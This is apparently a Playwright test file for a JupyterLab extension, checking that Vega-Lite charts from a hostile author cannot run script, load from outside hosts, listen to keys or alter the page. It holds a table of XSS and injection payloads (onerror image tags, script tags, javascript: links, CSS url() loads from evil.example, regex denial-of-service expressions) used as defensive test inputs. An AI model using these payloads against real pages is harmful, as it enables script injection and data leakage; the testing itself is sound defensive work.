"""Vega-Lite charts of a hostile author.

Who: the author of a panel, or of a table whose cells a chart shows. With what: the specification of a `<vega>` element and the
rows that it draws. What must hold: nothing runs or loads in JupyterLab's page, no element outside of the chart is changed, no key
is listened to, and the chart itself is still drawn where it is a chart at all. The page has no content security policy here, so
that the walls of the chart hold alone.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route

from nexus_jupyter.assets import asset

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]

EVIL = "https://evil.example"
ROWS = [
    {"a": "x", "b": 2, "image": f"{EVIL}/cell.png", "url": f"{EVIL}/cell", "bad": "<img src=x onerror=trap('cell')>"},
    {
        "a": f"url({EVIL}/value#a)",
        "b": 5,
        "image": "javascript:trap('image')",
        "url": "javascript:trap('href')",
        "bad": "b",
    },
]
BAR: dict[str, Any] = {
    "mark": "bar",
    "height": 200,
    "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}},
}


def bar(encoding: dict[str, Any] | None = None, mark: dict[str, Any] | None = None, **spec: Any) -> dict[str, Any]:
    """Return a chart that is drawn, with something added."""
    return {**BAR, "mark": {"type": "bar", **(mark or {})}, "encoding": {**BAR["encoding"], **(encoding or {})}, **spec}


def embed(**options: Any) -> dict[str, Any]:
    return bar(usermeta={"embedOptions": options})


#: What is tried, and whether a chart is left to draw.
PAYLOADS: dict[str, tuple[dict[str, Any], bool]] = {
    "tooltip with a picture from a column": (bar(mark={"tooltip": {"content": "data"}}), True),
    "tooltip with markup": (bar({"tooltip": [{"field": "bad"}, {"field": "image"}]}), True),
    "tooltip expression with an address": (
        bar({"tooltip": {"value": {"expr": f"{{image: '{EVIL}/?' + datum.b}}"}}}),
        True,
    ),
    "options: source header": (embed(actions=True, sourceHeader="<script>trap('header')</script>"), True),
    "options: source footer": (
        embed(actions={"source": True}, sourceFooter="<img src=x onerror=trap('footer')>"),
        True,
    ),
    "options: page-wide style": (embed(defaultStyle="#page { display: none }"), True),
    "options: page-wide style as a list": (embed(defaultStyle=[f"@import '{EVIL}/style.css';"]), True),
    "options: key listeners": (embed(hover=True, editorUrl=f"{EVIL}/"), True),
    "options: another language": (embed(mode="vega", renderer="svg"), True),
    "options: compiled expressions": (embed(ast=False), True),
    "options: a loader": (embed(loader={"baseURL": f"{EVIL}/"}), True),
    "options: bind": (embed(bind="#page"), True),
    "options: patch": (embed(patch=f"{EVIL}/patch.json"), True),
    "options: config from an address": (embed(config=f"{EVIL}/config.json"), True),
    "options: locale from an address": (embed(formatLocale=f"{EVIL}/locale.json"), True),
    "a parameter's element": (
        bar(params=[{"name": "p", "value": 1, "bind": {"input": "range", "element": "#page"}}]),
        True,
    ),
    "a parameter's name as markup": (
        bar(params=[{"name": "p", "value": 1, "bind": {"input": "range", "name": "<img src=x onerror=trap('name')>"}}]),
        True,
    ),
    "a selection bound to an element of the page": (
        bar(params=[{"name": "p", "select": "point", "bind": {"input": "text", "element": "body"}}]),
        True,
    ),
    "keys of the whole page": (
        bar(params=[{"name": "p", "select": {"type": "point", "on": "window:keydown"}}]),
        True,
    ),
    "clicks on an element of the page": (
        bar(params=[{"name": "p", "select": {"type": "point", "on": "#page:click", "clear": "#page:keydown"}}]),
        True,
    ),
    "a stream of events as a record": (
        bar(params=[{"name": "p", "select": {"type": "point", "on": {"source": "window", "type": "keydown"}}}]),
        True,
    ),
    "events in the config": (bar(config={"events": {"globalCursor": True, "selector": ["click"]}}), True),
    "signals in the config": (
        bar(config={"signals": [{"name": "s", "bind": {"input": "text", "element": "#page"}}]}),
        True,
    ),
    "schema of another place": (bar(**{"$schema": f"{EVIL}/v5.json"}), True),
    "a link on each bar": (bar({"href": {"field": "url"}}), True),
    "a link that is a value": (bar(mark={"href": "javascript:trap('mark')"}), True),
    "a picture for each row": (bar({"url": {"field": "image"}}, mark={"type": "image"}), False),
    "a layer with pictures": ({"layer": [{"mark": {"type": "image", "url": f"{EVIL}/layer.png"}}, BAR]}, False),
    "rows from an address": (bar(data={"url": f"{EVIL}/rows.json"}), True),
    "a lookup in an address": (
        bar(transform=[{"lookup": "a", "from": {"data": {"url": f"{EVIL}/look.csv"}, "key": "k", "fields": ["v"]}}]),
        True,
    ),
    "cursor from an address": (bar(mark={"cursor": f"url({EVIL}/cursor.cur), auto"}), True),
    "fill from an address": (bar(mark={"fill": f"url({EVIL}/fill.svg#a)"}), True),
    "fill from a cell": (bar({"fill": {"field": "a", "type": "nominal", "scale": None}}), True),
    "font from an address": (bar(config={"font": f"x; src: url({EVIL}/font.woff)"}), True),
    "background from an address": (bar(background=f"url({EVIL}/background.png)"), True),
    "colours of a scale from an address": (
        bar({"color": {"field": "a", "scale": {"range": [f"url({EVIL}/range.svg#a)", "red"]}}}),
        True,
    ),
    "a regular expression without end": (
        bar(transform=[{"calculate": "test(/(a+)+$/, 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')", "as": "c"}]),
        False,
    ),
    "a list without end": (bar(transform=[{"calculate": "length(sequence(0, 1e12))", "as": "c"}]), False),
}

PAGE = """<!DOCTYPE html><html><body><div id="page">The notebook</div><div id="chart" style="width: 500px"></div>
<script>
  window.trapped = []; window.listened = [];
  window.trap = (what) => window.trapped.push(what);
  for (const target of [window, document, document.body, document.getElementById("page")]) {
    const add = target.addEventListener.bind(target);
    target.addEventListener = (type, ...rest) => { window.listened.push(type); add(type, ...rest); };
  }
  window.made = 0; window.Function = new Proxy(Function, { construct: (...all) => { window.made += 1; return Reflect.construct(...all); }, apply: (...all) => { window.made += 1; return Reflect.apply(...all); } });
</script></body></html>"""


@pytest.fixture(scope="module")
def charts(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page with the charts' code, and the addresses it has asked for; nothing is answered from outside."""
    page = browser.new_page()
    asked: list[str] = []

    def answer(route: Route) -> None:
        url = route.request.url
        if url == "http://lab.example/":
            route.fulfill(body=PAGE, content_type="text/html")
        elif url == "http://lab.example/vega.js":
            route.fulfill(body=asset("vega.js"), content_type="text/javascript")
        else:
            asked.append(url)
            route.abort()

    page.route("**/*", answer)
    yield page, asked
    page.close()


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_chart_reaches_nothing_outside_of_itself(charts: tuple[Page, list[str]], name: str) -> None:
    page, asked = charts
    spec, drawn = PAYLOADS[name]
    asked.clear()
    page.goto("http://lab.example/")
    styles = page.evaluate("document.styleSheets.length")
    said = page.evaluate(
        "([spec, rows]) => import('/vega.js').then(({ draw }) => draw(document.getElementById('chart'), spec, rows))"
        ".then(() => '', (error) => String(error.message))",
        [spec, ROWS],
    )
    chart = page.locator("#chart canvas, #chart svg")
    box = chart.first.bounding_box() if chart.count() else None
    if box:
        for share in (0.25, 0.3, 0.5, 0.75):
            page.mouse.move(box["x"] + box["width"] * share, box["y"] + box["height"] * 0.3)
        page.mouse.click(box["x"] + box["width"] * 0.3, box["y"] + box["height"] * 0.3)
    page.keyboard.press("a")
    # The frames in which a tooltip is placed and pictures of it are asked for.
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))))")
    assert asked == []
    assert page.evaluate("window.trapped") == []
    assert not {type_ for type_ in page.evaluate("window.listened") if type_.startswith("key") or type_ == "input"}
    assert page.evaluate("window.made") == 0
    assert page.locator("#page").inner_text() == "The notebook"
    assert page.locator("#page").is_visible()
    assert page.evaluate("document.styleSheets.length") == styles
    assert page.locator("script, iframe, a, img, input, details").count() == page.locator("body > script").count()
    assert page.evaluate(
        "[...document.querySelectorAll('*')].every((e) => !/url\\(/.test(e.getAttribute('style') ?? ''))"
    )
    assert bool(box) is drawn, said
    assert (said == "") is drawn


def test_a_tooltip_is_the_text_of_the_cells(charts: tuple[Page, list[str]]) -> None:
    page, asked = charts
    asked.clear()
    page.goto("http://lab.example/")
    page.evaluate(
        "([spec, rows]) => import('/vega.js').then(({ draw }) => draw(document.getElementById('chart'), spec, rows))",
        [bar(mark={"tooltip": {"content": "data"}}), ROWS],
    )
    box = page.locator("#chart canvas").bounding_box()
    assert box
    page.mouse.move(box["x"] + box["width"] * 0.25, box["y"] + box["height"] * 0.3)
    page.mouse.move(box["x"] + box["width"] * 0.3, box["y"] + box["height"] * 0.3)
    tip = page.locator("#chart .nx-tooltip")
    tip.wait_for()
    assert f"image: {ROWS[1]['image']}" in tip.inner_text()
    assert tip.evaluate("(tip) => [...tip.querySelectorAll('*')].every((e) => e.localName === 'div')")
    assert asked == []


def test_what_was_left_out_of_a_chart_is_said_below_it(charts: tuple[Page, list[str]]) -> None:
    page, _ = charts
    page.goto("http://lab.example/")
    page.evaluate(
        "([spec, rows]) => import('/vega.js').then(({ draw }) => draw(document.getElementById('chart'), spec, rows))",
        [json.loads(json.dumps(embed(actions=True))), ROWS],
    )
    assert page.locator("#chart .nx-note").inner_text() == (
        "Left out of this chart, since panels' charts cannot have it: usermeta."
    )
